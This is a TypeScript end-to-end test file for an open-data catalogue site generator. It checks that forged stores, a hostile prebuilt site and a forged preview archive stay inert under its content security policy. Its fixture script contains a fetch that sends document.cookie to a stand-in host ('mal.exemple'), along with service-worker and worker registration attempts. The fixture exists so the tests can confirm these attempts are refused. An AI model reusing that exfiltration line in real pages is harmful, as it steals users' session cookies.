import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { shot, useBrowser, type BuiltSite } from './browser.ts';
import { lines, markup, operator, refused, writeForgedStore } from './forged-store.ts';

/* A store that nobody of ours has written, from the real commands to what the browser does with its pages. */

const root = join(import.meta.dirname, '..', '..');
const patience = { timeout: 30_000 };
const mappe = (...args: string[]) =>
  spawnSync(process.execPath, [join(root, 'pipeline', 'cli.ts'), ...args], { cwd: root, encoding: 'utf8' });

/** No text has become an element, and no script has run. */
async function expectInert(page: Page): Promise<void> {
  expect(await page.locator('.intrus').count()).toBe(0);
  expect(await page.evaluate(() => document.documentElement.id)).toBe('');
  expect(await page.evaluate(() => 'isAdmin' in {})).toBe(false);
  const addresses = await page
    .locator('[href], [src]')
    .evaluateAll((all) => all.map((each) => each.getAttribute('href') ?? each.getAttribute('src') ?? ''));
  expect(addresses.filter((address) => /^\s*javascript:/i.test(address))).toEqual([]);
}

function newFolder(): { folder: string; datasets: string; store: string; remove: () => Promise<void> } {
  const folder = mkdtempSync(join(tmpdir(), 'mappe-e2e-forged-'));
  const datasets = join(folder, 'datasets');
  const store = join(folder, 'store');
  mkdirSync(datasets);
  writeFileSync(join(datasets, 'operator.yaml'), operator);
  return { folder, datasets, store, remove: () => rm(folder, { recursive: true }) };
}

describe('a forged store', () => {
  let shownPaths: string[] = [];
  let ended: ReturnType<typeof mappe>;
  let out = '';
  const { visit, address } = useBrowser(() => {
    const { folder, datasets, store, remove } = newFolder();
    shownPaths = writeForgedStore(store);
    out = join(folder, 'site');
    ended = mappe('site', '--datasets', datasets, '--store', store, '--out', out, '--address', 'http://localhost/');
    return Promise.resolve<BuiltSite>({ out, store, remove });
  });

  test('is shown but for what cannot be: the command names it, and its code says so', () => {
    expect([ended.status, ended.stdout]).toEqual([4, expect.stringMatching(/^\d+ pages écrites dans /)]);
    for (const [name, [why]] of Object.entries(refused))
      expect(
        ended.stderr.split('\n').find((line) => line.startsWith(`ddt-51/${name} `)),
        name,
      ).toContain(why);
    expect(ended.stderr).toMatch(
      /^records\/sandre\/\S+ n’est pas montré.; tout le reste l’est\. .* n’est pas ce que le catalogue annonce/m,
    );
    expect(ended.stderr.match(/^records\/ddt-51\/\S+:\d+ La fiche (ne peut pas être lue|ne suit pas)/gm)).toHaveLength(2);
    for (const path of shownPaths) expect(readdirSync(join(out, 'donnees', path)), path).toContain('index.html');
    for (const name of Object.keys(refused)) expect(readdirSync(join(out, 'donnees', 'ddt-51'))).not.toContain(name);
    expect(readFileSync(join(out, 'index.html'), 'utf8')).toContain('</html>');
  });

  test.each(['/etat/', '/en/etat/'])('is told of on %s, with each data set that is left out', async (path) => {
    const page = await visit(path);
    const section = page.locator('section', { has: page.locator('#left-out') });
    const text = (await section.textContent()) ?? '';
    for (const name of Object.keys(refused)) expect(text).toContain(`ddt-51/${name}`);
    expect(text).toContain('sandre');
    expect(text).not.toContain('ddt-51/lignes');
    await expectInert(page);
    await shot(page, `forged-etat${path.startsWith('/en') ? '-en' : ''}`);
  });

  test('makes of no text of a record anything but text, wherever it stands', async () => {
    const page = await visit('/');
    for (const path of [
      '/',
      '/donnees/',
      '/donnees/?q=onerror',
      '/donnees/ddt-51/textes/',
      '/en/donnees/ddt-51/textes/',
      '/themes/energie/',
      '/producteurs/ddt-51/',
      '/territoires/DEP-51/',
      '/api/',
    ]) {
      await page.goto(new URL(path, address()).href);
      if (/textes|\?q=/.test(path)) await expect.poll(() => page.locator('main').textContent(), patience).toContain(markup.slice(0, 60));
      await expectInert(page);
    }
    await page.goto(new URL('/donnees/ddt-51/lignes/', address()).href);
    expect(await page.locator('h1').textContent()).toContain(lines);
  });

  test('a producer of two names is one in the search, and chosen finds all its data sets', async () => {
    const page = await visit('/donnees/');
    const producers = page.getByRole('group', { name: 'Producteur' });
    await producers.getByRole('checkbox').first().waitFor(patience);
    const labels = await producers.locator('label').allInnerTexts();
    expect(labels.filter((label) => label.includes('DDT'))).toHaveLength(1);
    await producers.locator('label', { hasText: 'DDT' }).click();
    await expect.poll(() => page.locator('main').textContent(), patience).toContain(lines);
    await expect.poll(() => page.locator('main').textContent(), patience).toContain(markup.slice(0, 60));
  });

  test('the map of an archive with hostile metadata credits whom the record names, as text', async () => {
    const page = await visit('/donnees/ddt-51/textes/#carte=3/48/4', { expected: /PMTiles|tile/i });
    await page.locator('.map[data-drawn="yes"]').waitFor(patience);
    await expectInert(page);
    await page.goto(new URL('/explorer/#d=ddt-51/textes', address()).href);
    await page.locator('.map[data-drawn="yes"]').waitFor(patience);
    await expectInert(page);
  });

  test('an archive that says that a tile takes gigabytes is damaged, and nothing of them is asked for', async () => {
    const page = await visit('/', { expected: /PMTiles says that a piece takes/, context: {} });
    const asked: number[] = [];
    page.on('request', (request) => {
      const [, from = '0', to = '0'] = /^bytes=(\d+)-(\d+)$/.exec(request.headers()['range'] ?? '') ?? [];
      asked.push(Number(to) - Number(from));
    });
    await page.goto(new URL('/donnees/ddt-51/geant/#carte=1/48/4', address()).href);
    await expect.poll(() => page.locator('#carte').textContent(), patience).toContain('endommagé');
    expect(asked.length).toBeGreaterThan(0);
    expect(Math.max(...asked)).toBeLessThanOrEqual(16 * 1024 ** 2);
    const heap = await page.evaluate(
      () => ('memory' in performance ? (performance.memory as { usedJSHeapSize: number }) : undefined)?.usedJSHeapSize,
    );
    expect(heap).toBeLessThan(300 * 1024 ** 2);
    await shot(page, 'forged-geant');
  });
});

/** Pages as a stranger would have us open them: one that stays in the browser, asks others, and says that it may. */
const hostilePage = `<!doctype html><html lang=fr><meta charset=utf-8><title>Pages d’un autre</title>
<meta http-equiv="content-security-policy" content="default-src * 'unsafe-inline' 'unsafe-eval' data: blob:; connect-src *; worker-src *">
<h1>Pages d’un autre</h1><script>document.documentElement.id = 'pris'</script><script src="/evil.js"></script>`;
const hostileScript = `document.documentElement.dataset.own = 'ran';
const tell = (name) => (value) => (document.documentElement.dataset[name] = String(value));
navigator.serviceWorker.register('/sw.js').then(() => 'registered', () => 'refused').then(tell('worker'));
fetch('https://mal.exemple/?' + document.cookie).then(() => 'asked', () => 'refused').then(tell('foreign'));
try { new Worker('/store/data/ddt-51/x/0123456789abcdef/travail.js').onerror = () => tell('stored')('refused'); } catch { tell('stored')('refused'); }`;
const hostileFiles: Record<string, string> = {
  'index.html': hostilePage,
  'evil.js': hostileScript,
  'sw.js': 'self.onfetch = () => {}',
};

describe('a site that somebody else has built', () => {
  const { visit } = useBrowser(() => {
    const { folder, store, remove } = newFolder();
    const out = join(folder, 'site');
    for (const [name, text] of Object.entries({
      ...hostileFiles,
      '../store/data/ddt-51/x/0123456789abcdef/travail.js': 'postMessage(1)',
    })) {
      mkdirSync(dirname(join(out, name)), { recursive: true });
      writeFileSync(join(out, name), text);
    }
    writeFileSync(`${out}.inputs`, 'à jour');
    return Promise.resolve({ out, store, remove });
  });

  test('is held to our policy by `serve`: nothing of it stays in the browser, and it asks nobody else', async () => {
    const page = await visit('/', { expected: /./ });
    const state = () =>
      page.evaluate(() => {
        const { dataset, id } = document.documentElement;
        return [dataset['own'], dataset['worker'], dataset['foreign'], dataset['stored'], id];
      });
    await expect.poll(state, patience).toEqual(['ran', 'refused', 'refused', 'refused', '']);
    expect(await page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length)).toBe(0);
  });
});

describe('a forged preview', () => {
  let before: string[] = [];
  const previews = (): string[] => readdirSync(tmpdir()).filter((name) => name.startsWith('mappe-preview-'));
  const { visit, address } = useBrowser(() => {
    before = previews();
    const { folder, datasets, remove } = newFolder();
    const apercu = join(folder, 'apercu');
    writeForgedStore(join(apercu, 'store'));
    const theirs = Object.entries(hostileFiles).flatMap(([name, text]) =>
      [`site/${name}`, `store/${name}`].map((place) => [place, text] as const),
    );
    for (const [name, text] of [...theirs, ['site.inputs', 'à jour'], ['site.cache/store/current.json', '{}']] as const) {
      mkdirSync(dirname(join(apercu, name)), { recursive: true });
      writeFileSync(join(apercu, name), text);
    }
    execFileSync('bsdtar', ['--format', 'zip', '-cf', join(folder, 'apercu.zip'), '-C', apercu, ...readdirSync(apercu)]);
    return Promise.resolve({ out: '', store: '', command: ['preview', join(folder, 'apercu.zip'), '--datasets', datasets], remove });
  });

  test('is seen in pages of ours, which ask nobody else', async () => {
    const page = await visit('/');
    expect(await page.locator('body').textContent()).not.toContain('Pages d’un autre');
    expect(await page.title()).toContain('Essai');
    for (const path of ['/donnees/ddt-51/textes/', '/donnees/ddt-51/lignes/', '/etat/', '/donnees/']) {
      const response = await page.goto(new URL(path, address()).href);
      expect(response?.headers()['content-security-policy'], path).toContain("connect-src 'self'; worker-src 'self'");
      await expectInert(page);
    }
    for (const name of Object.keys(hostileFiles).filter((each) => each !== 'index.html'))
      for (const place of ['', 'store/'])
        expect((await page.request.get(new URL(`${place}${name}`, address()).href)).status(), place + name).toBe(404);
  });

  test('keeps what it unpacks in a folder of its own, as long as it is looked at', () => {
    expect(previews().filter((name) => !before.includes(name)).length).toBeGreaterThan(0);
  });
});

describe('a forged request, looked at in a preview of it', () => {
  let out = '';
  let ended: ReturnType<typeof mappe>;
  const { visit, address } = useBrowser(() => {
    const { folder, datasets, store, remove } = newFolder();
    writeForgedStore(store);
    out = join(folder, 'apercu');
    const request = ['--preview', '7', '--until', '2026-12-12', '--address', 'http://localhost/'];
    ended = mappe('site', '--datasets', datasets, '--store', store, '--out', out, ...request);
    return Promise.resolve({ out, store, remove });
  });

  test('shows what can be shown and nothing else: what is refused has neither a page nor a file', () => {
    expect(ended.status, ended.stderr).toBe(4);
    for (const name of Object.keys(refused)) {
      expect(existsSync(join(out, 'donnees', 'ddt-51', name)), name).toBe(false);
      expect(existsSync(join(out, 'store', 'data', 'ddt-51', name)), name).toBe(false);
    }
    for (const name of ['index.html', 'donnees/index.html', 'pagefind', 'territoires'])
      expect(existsSync(join(out, name)), name).toBe(false);
  });

  test('says on each page that it is not published, and makes of no text anything but text', async () => {
    const page = await visit('/donnees/ddt-51/textes/');
    for (const path of ['/donnees/ddt-51/textes/', '/en/donnees/ddt-51/textes/']) {
      await page.goto(new URL(path, address()).href);
      await expectInert(page);
      expect(await page.getByRole('complementary', { name: /demande|request/ }).textContent()).toMatch(/7.*2026/s);
      expect(await page.locator('meta[name="robots"]').getAttribute('content')).toBe('noindex, nofollow');
      const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
      expect(policy).toContain("form-action 'none'");
    }
  });
});
